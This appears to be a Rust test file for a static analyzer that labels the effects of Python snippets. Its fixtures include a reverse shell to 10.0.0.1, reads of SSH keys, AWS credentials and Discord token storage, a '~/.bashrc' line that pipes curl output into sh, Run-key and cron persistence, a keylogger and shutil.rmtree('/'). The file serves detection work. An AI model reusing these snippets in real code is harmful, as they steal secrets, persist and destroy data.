//! Every class of effect, with what it is done with.

use crate::{Case, check_all};

const CASES: &[Case] = &[
    ("os.popen", "import os\nos.popen('id').read()", &["Shell py:os.popen id"]),
    (
        "a program with arguments",
        "import subprocess\nsubprocess.run(['curl', '-o', 'x', 'http://e.example'])",
        &["Spawn py:subprocess.run curl http://e.example"],
    ),
    (
        "a shell by a word",
        "import subprocess\nsubprocess.Popen('id', shell=True)",
        &["Shell py:subprocess.Popen id"],
    ),
    (
        "os.execl",
        "import os\nos.execl('/bin/sh', 'sh', '-c', 'id')",
        &["Spawn py:os.execl /bin/sh id"],
    ),
    ("os.spawnlp", "import os\nos.spawnlp(os.P_WAIT, 'ls', 'ls')", &["Spawn py:os.spawnlp ls"]),
    (
        "posix_spawn",
        "import os\nos.posix_spawn('/bin/id', ['id'], {})",
        &["Spawn py:os.posix_spawn /bin/id"],
    ),
    ("pty", "import pty\npty.spawn('/bin/bash')", &["Spawn py:pty.spawn /bin/bash"]),
    (
        "asyncio starts a program",
        "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('id')\nasyncio.run(f())",
        &["Shell py:asyncio.create_subprocess_shell id"],
    ),
    ("os.startfile", "import os\nos.startfile('a.exe')", &["Spawn py:os.startfile a.exe"]),
    (
        "getoutput",
        "import subprocess\nsubprocess.getoutput('id')",
        &["Shell py:subprocess.getoutput id"],
    ),
    (
        "commands of Python 2",
        "import commands\ncommands.getoutput('id')",
        &["Shell py:commands.getoutput id"],
    ),
    (
        "other libraries start programs",
        "import pexpect, sh, delegator\npexpect.run('id')\nsh.bash('-c', 'id')\ndelegator.run('id')",
        &["Shell pypi:pexpect.run id", "Shell pypi:sh.bash", "Shell pypi:delegator.run id"],
    ),
    ("a file is read", "open('/etc/passwd').read()", &["FileRead py:builtins.open /etc/passwd"]),
    (
        "a file is written",
        "with open('/tmp/a', 'w') as f:\n    f.write('x')",
        &["FileWrite py:builtins.open /tmp/a", "FileWrite py:builtins.open.write /tmp/a"],
    ),
    (
        "a mode by name",
        "open(file='/tmp/a', mode='ab')",
        &["FileWrite py:builtins.open /tmp/a", "no FileRead"],
    ),
    (
        "pathlib reads",
        "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()",
        &["FileRead py:pathlib.Path.read_text ~/.aws/credentials"],
    ),
    (
        "pathlib writes",
        "from pathlib import Path\nPath('/etc/cron.d/x').write_text('* * * * * root id')",
        &["FileWrite py:pathlib.Path.write_text /etc/cron.d/x"],
    ),
    (
        "pathlib removes",
        "import pathlib\npathlib.Path('/a').unlink()",
        &["FileDelete py:pathlib.Path.unlink /a"],
    ),
    (
        "os.remove and rmtree",
        "import os, shutil\nos.remove('/a')\nshutil.rmtree('/')",
        &["FileDelete py:os.remove /a", "FileDelete py:shutil.rmtree /"],
    ),
    (
        "copy",
        "import shutil\nshutil.copy('/a', '/b')",
        &["FileRead py:shutil.copy /a", "FileWrite py:shutil.copy /b"],
    ),
    ("rename", "import os\nos.rename('/a', '/b')", &["FileWrite py:os.rename /a /b"]),
    ("rights", "import os\nos.chmod('/a', 0o777)", &["FilePermission py:os.chmod /a"]),
    (
        "a folder is listed",
        "import os\nfor f in os.listdir('/home'): print(f)",
        &["FileRead py:os.listdir /home"],
    ),
    (
        "an archive is unpacked",
        "import tarfile\ntarfile.open('a.tar').extractall('/usr')",
        &["FileWrite py:tarfile.TarFile.extractall a.tar /usr"],
    ),
    (
        "expanduser",
        "import os\nopen(os.path.expanduser('~/.netrc')).read()",
        &["FileRead py:builtins.open ~/.netrc"],
    ),
    (
        "a folder from the environment",
        "import os\nopen(os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb\\\\1.ldb')",
        &["FileRead py:builtins.open %APPDATA% leveldb", "EnvironmentRead py:os.environ APPDATA"],
    ),
    (
        "a path by f-string",
        "import os\nhome = os.environ['HOME']\nopen(f'{home}/.ssh/id_rsa')",
        &["FileRead py:builtins.open ~/.ssh/id_rsa"],
    ),
    (
        "a name in a folder",
        "import os\nfor n in os.listdir(os.path.expanduser('~/.ssh')):\n    open(os.path.join(os.path.expanduser('~/.ssh'), n)).read()",
        &["FileRead py:builtins.open ~/.ssh/"],
    ),
    (
        "requests",
        "import requests\nrequests.post('https://e.example/c', data={'a': 1})",
        &["Request pypi:requests.post https://e.example/c"],
    ),
    (
        "a session",
        "import requests\ns = requests.Session()\ns.headers.update({})\ns.get('http://e.example')",
        &["Request pypi:requests.Session.get http://e.example"],
    ),
    (
        "urlopen with a request",
        "import urllib.request as r\nr.urlopen(r.Request('http://e.example/a', data=b'x'))",
        &["Request py:urllib.request.urlopen http://e.example/a"],
    ),
    (
        "urlretrieve",
        "import urllib.request\nurllib.request.urlretrieve('http://e.example/a', '/tmp/a')",
        &[
            "Request py:urllib.request.urlretrieve http://e.example/a",
            "FileWrite py:urllib.request.urlretrieve /tmp/a",
        ],
    ),
    (
        "urllib of Python 2",
        "import urllib2\nurllib2.urlopen('http://e.example')",
        &["Request py:urllib.request.urlopen http://e.example"],
    ),
    (
        "http.client",
        "import http.client\nc = http.client.HTTPSConnection('e.example')\nc.request('POST', '/p', 'body')",
        &[
            "Connect py:http.client.HTTPSConnection e.example",
            "Request py:http.client.HTTPSConnection.request e.example /p body",
        ],
    ),
    (
        "a socket",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('10.0.0.1', 4444))\ns.send(b'x')",
        &["Connect py:socket.socket.connect 10.0.0.1 4444", "Connect py:socket.socket.send"],
    ),
    (
        "a shell over a socket",
        "import socket,subprocess,os\ns=socket.socket()\ns.connect(('10.0.0.1',4242))\nos.dup2(s.fileno(),0)\np=subprocess.call(['/bin/sh','-i'])",
        &["Connect py:socket.socket.connect 10.0.0.1", "Spawn py:subprocess.call /bin/sh -i"],
    ),
    (
        "a connection",
        "import socket\nsocket.create_connection(('e.example', 80)).sendall(b'x')",
        &["Connect py:socket.create_connection e.example", "Connect py:socket.socket.sendall"],
    ),
    (
        "something listens",
        "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 8080))\ns.listen()",
        &["Listen py:socket.socket.bind 0.0.0.0"],
    ),
    (
        "a name is looked up",
        "import socket\nsocket.gethostbyname('x.e.example')",
        &["NameLookup py:socket.gethostbyname x.e.example"],
    ),
    (
        "httpx, aiohttp, urllib3",
        "import httpx, aiohttp, urllib3\nhttpx.post('http://a.example')\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.get('http://b.example')\nurllib3.PoolManager().request('GET', 'http://c.example')",
        &[
            "Request pypi:httpx.post http://a.example",
            "Request pypi:aiohttp.ClientSession.get http://b.example",
            "Request pypi:urllib3.PoolManager.request http://c.example",
        ],
    ),
    (
        "ftp and mail",
        "import ftplib, smtplib\nftplib.FTP('e.example').storbinary('STOR a', open('a', 'rb'))\nsmtplib.SMTP('m.example', 25).sendmail('a', 'b', 'c')",
        &[
            "Connect py:ftplib.FTP e.example",
            "Connect py:ftplib.FTP.storbinary",
            "Connect py:smtplib.SMTP.sendmail m.example",
        ],
    ),
    (
        "websockets",
        "import websocket\nws = websocket.create_connection('ws://e.example')\nws.send('x')",
        &[
            "Connect pypi:websocket.create_connection ws://e.example",
            "Connect pypi:websocket.WebSocket.send ws://e.example",
        ],
    ),
    (
        "paramiko",
        "import paramiko\nc = paramiko.SSHClient()\nc.connect('e.example')\nc.exec_command('id')",
        &[
            "Connect pypi:paramiko.SSHClient.connect e.example",
            "Shell pypi:paramiko.SSHClient.exec_command id",
        ],
    ),
    (
        "one variable",
        "import os\nos.environ['AWS_SECRET_ACCESS_KEY']",
        &["EnvironmentRead py:os.environ AWS_SECRET_ACCESS_KEY"],
    ),
    (
        "one variable by get and getenv",
        "import os\nos.environ.get('A_TOKEN')\nos.getenv('B_TOKEN')",
        &["EnvironmentRead py:os.environ A_TOKEN", "EnvironmentRead py:os.environ B_TOKEN"],
    ),
    ("all variables", "import os\ndict(os.environ)", &["EnvironmentRead py:os.environ"]),
    (
        "a variable is set",
        "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'",
        &["EnvironmentWrite py:os.environ LD_PRELOAD /tmp/x.so"],
    ),
    (
        "what the machine is",
        "import platform, getpass, socket, uuid\nplatform.node()\ngetpass.getuser()\nsocket.gethostname()\nuuid.getnode()",
        &[
            "SystemInformation py:platform.node",
            "SystemInformation py:getpass.getuser",
            "SystemInformation py:socket.gethostname",
            "SystemInformation py:uuid.getnode",
        ],
    ),
    ("the clipboard", "import pyperclip\npyperclip.paste()", &["Peripheral pypi:pyperclip.paste"]),
    (
        "the keyboard",
        "from pynput.keyboard import Listener\ndef on(k): pass\nwith Listener(on_press=on) as l:\n    l.join()",
        &["Peripheral pypi:pynput.keyboard.Listener"],
    ),
    (
        "the screen and the camera",
        "from PIL import ImageGrab\nimport cv2, mss\nImageGrab.grab()\ncv2.VideoCapture(0).read()\nmss.mss().shot()",
        &[
            "Peripheral pypi:PIL.ImageGrab.grab",
            "Peripheral pypi:cv2.VideoCapture",
            "Peripheral pypi:mss.mss.shot",
        ],
    ),
    (
        "the registry",
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')\nwinreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'a.exe')",
        &["FileRead py:winreg.OpenKey CurrentVersion", "FileWrite py:winreg.SetValueEx a.exe"],
    ),
    (
        "passwords that a system keeps",
        "import keyring\nkeyring.get_password('a', 'b')",
        &["FileRead pypi:keyring.get_password"],
    ),
    (
        "a start when a shell starts",
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl e.example | sh')",
        &[
            "FileWrite py:builtins.open ~/.bashrc",
            "FileWrite py:builtins.open.write ~/.bashrc curl",
        ],
    ),
    (
        "something encrypts",
        "from cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nopen('a','wb').write(f.encrypt(open('a','rb').read()))",
        &["Cryptography pypi:cryptography.fernet.Fernet.encrypt"],
    ),
    (
        "a webhook by a library",
        "from dhooks import Webhook\nWebhook('https://discord.com/api/webhooks/1/x').send('a')",
        &["Request pypi:dhooks.Webhook.send https://discord.com/api/webhooks/1/x"],
    ),
    (
        "the certificate is not looked at",
        "import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
        &["BuiltinWrite py:ssl._create_default_https_context"],
    ),
    (
        "a value of a key within a key",
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\A\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'a', 0, winreg.REG_SZ, 'a.exe')",
        &["FileWrite py:winreg.SetValueEx Run a.exe"],
    ),
    (
        "in both ways of a test",
        "import os, sys\nif sys.platform == 'win32':\n    os.system('a')\nelse:\n    os.system('b')",
        &["Shell py:os.system a", "Shell py:os.system b"],
    ),
    (
        "in a way that is not taken now",
        "import os\nDEBUG = False\nif DEBUG:\n    os.system('a')",
        &["Shell py:os.system a"],
    ),
    (
        "what surely never runs is not seen",
        "import os\nif False:\n    os.system('a')",
        &["no Shell"],
    ),
];

#[test]
fn every_class_of_effect_is_seen_with_what_it_is_done_with() {
    check_all(CASES);
}
